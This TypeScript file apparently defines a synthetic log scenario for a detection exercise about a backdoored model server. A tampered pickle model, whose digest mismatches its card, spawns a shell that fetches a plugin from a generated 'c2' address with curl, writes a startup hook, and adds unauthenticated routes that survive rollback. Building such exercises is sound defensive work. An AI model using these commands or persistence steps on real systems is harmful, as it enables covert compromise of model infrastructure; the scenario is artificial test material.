import { closing } from '../../fragments/closing.ts'
import { entry } from '../../fragments/entry.ts'
import { footprint } from '../../fragments/footprint.ts'
import { hiddenPath } from '../../fragments/hidden-path.ts'
import { sideFact } from '../../fragments/side-fact.ts'
import { ordinaryApplication } from '../../fragments/ordinary-application.ts'
import { defineScenario } from '../../scenario.ts'

export default defineScenario({
  risk: 'Persistence via Backdoor Implantation',
  title: 'what a model server loads when it starts',
  clues: [
    'Loading the weights of {model} starts a process, which weights never do.',
    'The digest of the file is not the one in the card of the model.',
    'The plugin folder holds a file that no package brought.',
    'Each start of the server adds a route that no configuration names.',
    'Rolling back the model leaves the plugin in place.',
  ],
  steps: (story) => {
    const { make, either, pick, whole, chance } = story
    const model = pick('m', ['ranker-v3', 'embed-small', 'doc-classifier', 'translate-nl', 'tts-base'])
    const digest = make.digest('w')
    const plugin = either(hiddenPath(story, 'plug', '.py'), '/opt/serving/plugins/metrics.py')
    const address = either(make.outsideAddress('c2'), make.insideAddress('prom'))
    const route = either(
      pick('r', ['/v1/_dbg', '/.well-known/run', '/infer/../sh', '/v2/health/x']),
      '/metrics',
    )
    story.note('model', model)
    const start = (key: string, version: string) => [
      entry(
        'model-server',
        'start',
        { pid: make.pid(key), model, version, uid: 1000, plugins: either(1, 1) },
        [
          'server {pid} started with {model} {version}, {plugins} plugin',
          '{model} {version} served by pid {pid}',
        ],
        [600, 9000],
      ),
      entry(
        'model-server',
        'plugin',
        {
          path: plugin,
          name: either('warmup', 'metrics'),
          package: sideFact(story, 'package', 'not set', 'serving-metrics'),
          result: 'loaded',
        },
        ['plugin {name} {result} from {path}', '{path} {result} (package {package})'],
        2,
      ),
      entry(
        'model-server',
        'route',
        {
          route,
          by: either('warmup', 'metrics'),
          configured: sideFact(story, 'configured', false, true),
          auth: either('none', 'internal'),
        },
        ['route {route} by {by}, configured={configured}, auth {auth}', '{route} added'],
        1,
      ),
    ]
    return [
      ordinaryApplication(story, 'a', 1),
      entry(
        'registry',
        'pull',
        {
          model,
          version: '2',
          host: either(make.outsideHost('hub'), make.insideHost('hub')),
          format: either('pickle', 'safetensor').replace('safetensor', 'tensor file'),
          bytes: make.bytes('b', 9000000, 400000000),
          status: 200,
        },
        ['{model} {version} from {host}: {bytes} bytes ({format})', '{host} gave {model} as {format}'],
      ),
      entry(
        'registry',
        'verify',
        {
          model,
          sha256: digest,
          card: either(make.digest('card'), digest),
          result: either('mismatch', 'match'),
          enforced: sideFact(story, 'enforced', false, true),
        },
        [
          '{model} sha256 {sha256} card {card}: {result}',
          `digest ${either('differs from', 'equals')} the card, enforced={enforced}`,
        ],
      ),
      entry(
        'model-server',
        'load',
        { pid: make.pid('load'), model, seconds: whole('s', 3, 90), memory_mb: whole('mb', 300, 9000) },
        ['{model} loaded in {seconds} s, {memory_mb} MB', 'weights of {model} in memory'],
      ),
      entry(
        'audit',
        either('exec', 'open'),
        {
          pid: make.pid('child'),
          ppid: make.pid('load'),
          uid: 1000,
          path: either('/bin/sh', `/models/${model}/config.json`),
          cmd: either(
            pick('c', [
              `sh -c "cp /tmp/w ${plugin}"`,
              'python3 -c "import os;os.fork()"',
              `sh -c "curl -s ${address} -o ${plugin}"`,
            ]),
            'read',
          ),
        },
        ['ppid={ppid} uid={uid} {path} {cmd}', 'loader {ppid}: {cmd}'],
        1,
      ),
      entry(
        'audit',
        'create',
        {
          path: plugin,
          uid: either(1000, 0),
          mode: either('0700', '0644'),
          package: sideFact(story, 'package', 'n/a', 'serving-metrics'),
          sha256: make.digest('p'),
        },
        ['{path} uid={uid} mode={mode} package={package}', '{path} sha256 {sha256}'],
        2,
      ),
      entry(
        'audit',
        'write',
        {
          path: pick('conf', [
            '/opt/serving/plugins.d/10-local',
            '/etc/serving/site.pth',
            '/opt/serving/sitecustomize.py',
          ]),
          uid: either(1000, 0),
          content: plugin,
          by: either('loader', 'pip'),
        },
        ['{path}: {content} by {by}', '{by} wrote {path}'],
      ),
      start('s1', '2'),
      ordinaryApplication(story, 'b', 2),
      entry(
        'gateway',
        'request',
        {
          method: sideFact(story, 'method', 'POST', 'GET'),
          path: route,
          src_ip: address,
          status: 200,
          bytes: whole('rb', 90, 9000),
        },
        ['{src_ip} {method} {path} {status} {bytes}', '{path} asked by {src_ip}'],
        [60, 4000],
      ),
      chance('roll', 0.8)
        ? entry(
            'deploy',
            'rollback',
            { model, version: '1', by_user: make.user('ops'), result: 'completed' },
            ['{model} back to {version} by {by_user}', 'rollback {result}'],
            [600, 9000],
          )
        : undefined,
      start('s2', '1'),
      entry(
        'gateway',
        'request',
        {
          method: sideFact(story, 'method', 'POST', 'GET'),
          path: route,
          src_ip: address,
          status: 200,
          bytes: whole('rb2', 90, 9000),
        },
        ['{src_ip} {method} {path} {status} {bytes}', '{path} asked by {src_ip}'],
        [60, 4000],
      ),
      ordinaryApplication(story, 'c', 1),
      footprint(story, 'foot'),
      closing(story),
    ]
  },
})
